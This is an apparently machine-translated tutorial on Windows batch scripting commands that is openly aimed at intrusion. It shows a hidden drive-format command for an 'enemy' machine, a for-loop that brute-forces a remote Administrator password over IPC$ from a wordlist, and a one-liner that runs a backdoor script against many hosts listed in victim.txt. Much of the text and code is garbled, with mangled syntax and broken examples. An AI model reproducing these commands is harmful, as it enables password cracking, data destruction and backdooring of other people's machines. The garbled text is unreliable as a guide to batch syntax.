Simple tutorial on BAT Program Design for Windows Batch Processing

Source: Internet
Author: User
Tags eol


Recent discussions on batch processing technology are hot, and there are also a lot of good batch processing Program Publishing, but without some knowledge, I am afraid it is difficult to understand and understand these batch processing files, let alone write them manually, it is better to teach people to fish." Because there seems to be no complete teaching material on the Internet, I took some time to write this article for new friends and all the friends who worked hard to achieve the freedom and sharing of the network.
A batch file is a non-formatted text file thatcontains one or more commands. Its file extension is. bat or. cmd. In the command prompt, click the name of the batch file. When you double-click the batch file, the system will call cmd.exe to run them one by one based on the order in which commands appear in the file. The use of batch files (also known as batch processing programs or scripts) can simplify daily or repetitive tasks. Of course, the main content of our version is to introduce some practical application of batch processing in the intrusion. For example, we will refer to using batch processing files to patch the system and batch implant Backdoor programs. Let's start our batch processing learning journey.
1. Introduction to simple batch processing internal commands
1. Echo command
Enable or disable the request echo function or display messages. If no parameters exist, the echo command displays the current echo settings.
Echo [] [Message]
Sample: @ echo off/ECHO Hello World
In actual application, we will combine this command with the redirection symbol (also known as the pipeline symbol) to input some commands to a file in a specific format. this will be reflected in future examples.
2. @ command
The command after @ is not displayed. In the intrusion process (for example, you can use batch processing to format the enemy's hard disk), the other party cannot see the command you are using.
Sample: @ echo off@ ECHO now initializing the program, please wait a Minite...
@ Format X:/Q/u/AutoSet (the/y parameter cannot be used for the format command. Fortunately, Microsoft has reserved the AutoSet parameter for us, the effect is the same as that of/y. Not supported by Win2k)
3. Goto command
Specify to jump to the tag. After the tag is found, the program processes the commands starting from the next line.
Syntax: goto label (label is a parameter that specifies the rows in the batch processing program to be switched .)
If =={} goto noparms
If =={} goto noparms (if you do not understand the IF, % 1, and % 2 here, skip the step first, which will be explained in detail later .)
@ REM check parameters if null show usage
: Noparms
Echo usage: monitor. Bat serverip portnumber
Goto end
The name of a tag can start at will, but it is better to have a meaningful letter. Add a letter before it to indicate that the letter is a tag. The Goto command is based on this: to find the next step and jump to it. It is better to have some explanations so that others seem to understand your intention.
4. Rem command
The annotation command is equivalent to/* --- */in the C language. It is not executed, but serves as a comment for others to read and modify.
Rem message
Sample: @ REM here is the description.
5. Pause command
When running the pause command, the following message is displayed:
Press any key to continue...
@ Echo off
: Begin
Copy A: *. * D: Back
Echo please put a new disk into driver
Goto begin
In this example, all files on drive a's disk are copiedto drive D: back. When the displayed note prompts you to put another disk into drive a, the pause command will suspend the program so that you can change the disk and press any key to continue processing.
6. Call Command
Call another batch processing program from one batch processing program without terminating the parent batch processing program. The Call Command accepts the labels used as the call target. If a call is used outside a script or batch file, it does not work in the command line.
Call [[drive:] [path] filename [batchparameters] [: Label [arguments]
[Drive:} [path] filename
Specifies the location and name of the batch processing program to be called. The filename parameter must have the. bat or. CMD extension.
7. Start command
Call an external program. All the DOS commands and command line programs can be called by the START command.
Common Intrusion parameters:
Minimum window size when Min starts
Separate starts a 16-bit windows program in a separate space
High starts applications in the high priority category
Realtime starts applications in the realtime priority category
Wait starts the application and waits for it to end
Parameters: these are parameters sent to the command/program.
When the executed application is a 32-bit GUI application, cmd. EXE returns a command prompt before the application is terminated. If it is executed in the Command Script, the new behavior will not occur.
8. Choice command (Win2k expired)
Choice uses this command to allow users to enter a single character to run different commands. The/C: parameter should be added for use, and C: should be followed by a prompt to enter characters without spaces. Its return code is 1234 ......
For example: choice/C: dimethyl defrag, mem, end
Will display
Defrag, mem, end[d, M, E]?
The content of sample. bat is as follows:
@ Echo off
Choice/C: dimethyl defrag, mem, end
If errorlevel 3 goto defrag (the highest error code should be determined first)
If errorlevel 2 goto mem
If errotlevel 1 goto end
: Defrag
C: dosdefrag
Goto end
: Mem
Goto end
: End
Echo good bye
After this file is run, defrag, mem, end [d, M, E]? You can select d m e, and then the if statement will make a judgment. D indicates the program segment with the execution label as defrag, and M indicates the program segment withthe execution label as mem, E indicates the program segment whose execution label is end. Each program segment finally jumps the program to the end label using goto end. Then, the program displays Good bye, and the file ends.
9. If command
If indicates whether the specified conditions are met, and then different commands are executed. There are three formats:
1. If "parameter" = "string" command to be executed
If the parameter is equal to the specified string, the condition is true. Run the command. Otherwise, run the next sentence. (Note that there are two equal signs)
For example, if "% 1" = "A" format:
If =={} goto noparms
If =={} goto noparms
2. If exist file name command to be executed
If a specified file exists, the condition is true. Run the command. Otherwise, run the next sentence.
For example, if exist config. sys edit config. sys
3. If errorlevel/if not errorlevel number command to be executed
If the return code is equal to the specified number, the condition is true. Run the command. Otherwise, run the next sentence.For example, if errorlevel 2 goto X2
When the DOS program runs, a number is returned to DOS, which is called the error level or return code. Common return codes are 0 and 1.
10. For command
The for command is a complex command. It is mainly used to execute commands cyclically within a specified range of parameters. When using the for command in a batch file, use % variable to specify the variable
For in (SET) do command [commandlineoptions]
% Variable specifies a single letter replaceable parameter.
(SET) specifies one or more files. Wildcard characters can be used.
Command specifies the Command executed on each file.
Command-parameters specifies a parameter or command line switch for a specific command.
When using the for command in a batch file, use % variable instead of % variable to specify the variable. Variable names are case sensitive, so % I is different from % I
If the command extension is enabled, the following additional for command formats are supported:
For/d % variable in (SET) do command [command-parameters]
If the set contains wildcards, it is specified to match the directory name instead of the file name.
For/R [[drive:] path] % variable in (SET) do command [command-parameters]Check the directory tree with [drive:] path as the root and point to the for statement in each directory. If no directory is specified after/R, the current directory is used. If the set is only a single point (.) character, the directory tree is enumerated.
For/L % variable in (START, step, end) do command [command-parameters]
This set indicates a sequence of numbers from start to end in incremental form. Therefore, (, 5) will generate a sequence 1 2 3 4 5, (5,-) will generate a sequence(5 4 3 2 1 ).
For/f ["options"] % variable in (filenameset) do command
For/f ["options"] % variable in ("string") do command
For/f ["options"] % variable in ('command') do command
Or, if usebackq is available:
For/f ["options"] % variable in (file-set) do command
For/f ["options"] % variable in ("string") do command
For/f["options"] % variable in ('command') do command
Filenameset is one or more file names. Before proceeding to the next file in filenameset, each file has been opened, read, and processed. Processing includes reading files, dividing them into lines of text, and parsing each line into zero or more symbols. Then, call the for loop with the value of the variable string that has been found. By default,/F uses the first blank symbol separated by each line of each file. Skip blank lines. You can specify the Optional options parameter to replace the default resolution operation. The string with quotation marks contains one or more keywords that specify different resolution options. These keywords are:
EOL = C-refers to the end of a line comment character (just one)
Skip = N-indicates the number of rows ignored at the beginning of the file.
Delims = xxx-refers to the delimiter set. This replaces the default delimiter set of spaces and the hop key.
Tokens = x, y, M-n-indicates which symbol of each row is passed to the for itself of each iteration. This causes the format of the extra variable name to be a range. Use the N symbol to specify the last character asterisks in the M Symbol string. Then, the extra variables will be allocated for parsing the last symbol and accept the reserved Text of the row.
Usebackq-specify that the new syntax is used in the following situations: execute a character string that is enclosed in quotationmarks as a command and use the character string as a text string command, and allow the file name to be expanded using double quotation marks in FI.
For/F "EOL =; tokens = 2, 3 * delims =," % I in (myfile.txt) do command
Analyzes each row in myfile.txt, ignores the rows whose names start with semicolons, and passes the second and third symbols in each row to the for program body. Use commas and/or spaces to define the delimiter. Note that the for program body statement references % I to get the second symbol, and references % J to get the third symbol, reference % K to get all the remaining symbols after the third symbol. For file names with spaces, you must enclose them in double quotation marks. To use double quotation marks in this way, you also need to use the usebackq option. Otherwise, double quotation marks are interpreted as defining a string to be analyzed.
% I is specifically described in the for statement. % J and % K are specifically described through the tokens = option. You can use tokens = to specify a maximum of 26 characters in a row, as long as you do not try to illustrate a variable higher than the letter "Z" or "Z. Remember that for variables are single letters, case sensitive, and global. At the same time, no more than 52 variables are in use.
You can also use for/F to analyze the logic on adjacent strings. The method is to enclose the filenameset between parentheses with single quotation marks. In this way, the string is treated as a single input line in a file.
Finally, you can use the for/F command to analyze the command output. The method is to convertthe filenameset between parentheses into an anti-string. This string will be passed to a sub-cmd. EXE as a command line, and its output will be captured into the memory and Composition Component analysis. Therefore, the following example:
For/F "usebackq delims =" % I in ('set') Do @ echo % I
The names of environment variables in the current environment are enumerated.
In addition, the replacement of the for variable reference has been enhanced. You can now use the following
Option Syntax:
~ I-delete any quotation marks (") and expand % I
% ~ Fi-extend % I to a fully qualified path name
% ~ Di-only expand % I to one drive letter
% ~ Pi-only expand % I to one path
% ~ Ni-only expand % I to one file name
% ~ Xi-only expand % I to one file extension
% ~ The SI-extended path contains only short names.
% ~ Ai-extend % I to file attributes
% ~ Ti-extend % I to the date/time of the file
% ~ Zi-expand % I to the file size
% ~ $ Path: I-searches for the Directory of the environment variable in the path and expands % I to the first fully qualified name. If the environment variable is not defined or the file is not found, this key combination expands the Null String
You can combine modifiers to get multiple results:
% ~ DPI-only expand % I to one drive letter and Path
% ~ Nxi-only expand % I to one file name and extension
% ~ FSI-only expand % I to acomplete path name with a short name
% ~ DP $ path: I-find the directory of the Environment Variable listed in the path and expand % I
To the first drive letter and path.
% ~ Ftzai-extended % I to the Dir similar to the output line
In the preceding example, % I and path can be replaced by other valid values. % ~ Syntax ends with a valid for variable name. Selecting an uppercase variable name similar to % I is easier to read and avoids confusion with case-insensitive key combinations.
The above is the official help of Ms. Here are a few examples to illustrate the use of the for command in intrusion.
Use the for command to crack the brute-force password of a target Win2k host.
We use net use ipipc $ "password"/u: "Administrator" to try this connection with the target host. When the connection succeeds, write down the password.
The main command is: For/F % I in (dict.txt) Do net use ipipc $ "% I"/u: "Administrator"
Use policito encrypt the adminpassword, and use the net use command to connect the % I value in dict.txt. Then pass the program running result to the find command --
For/F % I in (dict.txt) Do net use ipipc $ "% I"/u: "Administrator" | find ": Command completed successfully"> D: OK .txt, so Ko is ready.
Have you ever had a large number of bots waiting for you to plant backdoors and Trojans ?, When the number is very large, one thing that is very happy will become very depressing :). Article The use of batch files cansimplify daily or repetitive tasks. So how to implement it? Well, you will understand it later.
There is only one main command: (when using the for command in the batch processing file, specify the variable to use % variable)
@ For/F "tokens = 1, 2, 3 delims =" % I in (victim.txt) do start call door. Bat % I % J % K
For the tokensusage method, see the example sample1. Here, upload the content in victim.txt to the parameter % I % J % K in door. bat.
